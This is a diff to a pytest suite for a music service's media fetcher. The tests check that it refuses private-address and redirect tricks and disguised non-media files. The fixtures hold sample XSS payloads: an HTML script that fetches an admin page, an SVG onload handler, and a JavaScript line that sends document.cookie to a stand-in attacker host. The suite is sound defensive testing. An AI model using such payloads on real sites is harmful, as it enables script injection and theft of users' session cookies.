@@ -5,6 +5,8 @@ import pytest
 from music import upstream
 from music.services import media
 from music.upstream.base import Clip, ClipState
+from tests.localserver import Route, fake_dns, local_server
+from tests.mediafiles import image, mp3_frames
 
 
 @pytest.mark.parametrize(
@@ -25,12 +27,11 @@ def test_urls_outside_the_providers_hosts_are_refused(url):
 
 def test_an_allowed_cdn_name_pointing_at_a_private_address_is_refused(settings, monkeypatch):
     settings.SUNO_MEDIA_HOSTS = ["cdn.example.org"]
-    monkeypatch.setattr(
-        media.socket, "getaddrinfo", lambda *a, **k: [(2, 1, 6, "", ("192.168.1.10", 443))]
-    )
-    with pytest.raises(media.MediaRefused) as info:
-        media.check_url("https://cdn.example.org/a.mp3")
-    assert "private address" in str(info.value)
+    fake_dns(monkeypatch, {"cdn.example.org": ["192.168.1.10"]})
+    clip = Clip(id="c", state=ClipState.SUCCEEDED, audio_url="https://cdn.example.org/a.mp3")
+    result = media.fetch_clip_media(clip)
+    assert not result.ok and not result.retry
+    assert "not allowed" in result.error
 
 
 def test_the_providers_own_host_is_allowed():
@@ -55,3 +56,98 @@ def test_files_over_the_size_limit_are_refused(settings, simulator):
     result = media.fetch_clip_media(clip)
     assert not result.ok
     assert "larger than" in result.error
+
+
+# --- what is kept: media only, typed by its bytes ----------------------------------------
+HTML = b"<!doctype html><script>fetch('/admin/').then(r => r.text()).then(alert)</script>"
+JS = b"document.location = 'https://evil.example/?c=' + document.cookie"
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>'
+MP3 = mp3_frames()
+PNG = image("PNG")
+
+
+@pytest.fixture
+def cdn(settings):
+    """A provider file server on localhost, allowed as a media host (listed, with port)."""
+    with local_server() as server:
+        settings.SUNO_MEDIA_HOSTS = ["127.0.0.1"]
+        settings.STUDIO_ALLOWED_PRIVATE_HOSTS = [server.host_port]
+        yield server
+
+
+def serve(server, path, body, content_type="text/html"):
+    server.routes[path] = Route(body, headers={"Content-Type": content_type})
+    return server.url(path)
+
+
+def clip_of(audio_url, image_url=""):
+    return Clip(id="c", state=ClipState.SUCCEEDED, audio_url=audio_url, image_url=image_url)
+
+
+@pytest.mark.parametrize(
+    ("path", "body", "content_type"),
+    [
+        ("/song.html", HTML, "text/html"),
+        ("/song.mp3", HTML, "audio/mpeg"),  # HTML that says it is audio
+        ("/song.js", JS, "text/javascript"),
+        ("/song.svg", SVG, "image/svg+xml"),
+        ("/cover-as-audio.png", PNG, "image/png"),  # an image is not the song's audio
+    ],
+)
+def test_disguised_audio_is_refused_and_explained(cdn, path, body, content_type):
+    result = media.fetch_clip_media(clip_of(serve(cdn, path, body, content_type)))
+    assert not result.ok and not result.retry
+    assert "not audio or video" in result.error
+    assert result.files == {}
+
+
+def test_an_mp3_behind_an_html_link_is_stored_as_mp3_and_a_script_cover_is_not(cdn):
+    clip = clip_of(serve(cdn, "/clip.html", MP3), serve(cdn, "/cover.js", JS, "text/javascript"))
+    result = media.fetch_clip_media(clip)
+    assert result.ok
+    assert set(result.files) == {"audio_file"}  # the cover is best effort: left out
+    audio = result.files["audio_file"]
+    assert audio.name == "audio.mp3"
+    assert audio.media_type.content_type == "audio/mpeg"
+    assert audio.data == MP3
+
+
+def test_an_svg_cover_is_left_out_and_a_png_one_kept(cdn):
+    song_url = serve(cdn, "/a", MP3, "audio/mpeg")
+    result = media.fetch_clip_media(clip_of(song_url, serve(cdn, "/c.svg", SVG, "image/svg+xml")))
+    assert result.ok and set(result.files) == {"audio_file"}
+    result = media.fetch_clip_media(clip_of(song_url, serve(cdn, "/c.jpeg", PNG, "image/jpeg")))
+    assert result.files["image_file"].name == "cover.png"
+
+
+def test_an_export_that_is_not_media_is_refused(cdn):
+    result = media.fetch_file(serve(cdn, "/x.wav", HTML), "wav", ".wav")
+    assert not result.ok and not result.retry
+    assert "not audio or video" in result.error
+
+
+def test_a_download_that_trickles_past_the_deadline_is_timed_out(cdn, settings):
+    settings.STUDIO_FETCH_DEADLINE = 1.0
+    cdn.routes["/slow.mp3"] = Route(MP3[:60], trickle=0.5)
+    result = media.fetch_clip_media(clip_of(cdn.url("/slow.mp3")))
+    assert not result.ok and result.retry
+    assert "timed out" in result.error
+
+
+def test_a_redirect_to_another_port_of_the_same_host_is_refused(cdn):
+    with local_server({"/secret": Route(MP3)}) as internal:
+        cdn.routes["/moved.mp3"] = Route(status=302, headers={"Location": internal.url("/secret")})
+        result = media.fetch_clip_media(clip_of(cdn.url("/moved.mp3")))
+        assert not result.ok and not result.retry
+        assert "not allowed" in result.error
+        assert internal.hits == []
+
+
+def test_the_providers_own_private_host_is_not_exempt_on_other_ports(live_simulator):
+    """A provider on 127.0.0.1 is allowed on its own port only (as listed), not on others."""
+    with local_server({"/secret": Route(MP3)}) as internal:
+        account = None  # the operator's provider: SUNO_BASE_URL is the live simulator
+        assert upstream.provider_host(account) == "127.0.0.1"
+        result = media.fetch_clip_media(clip_of(internal.url("/secret")), account)
+        assert not result.ok and "not allowed" in result.error
+        assert internal.hits == []
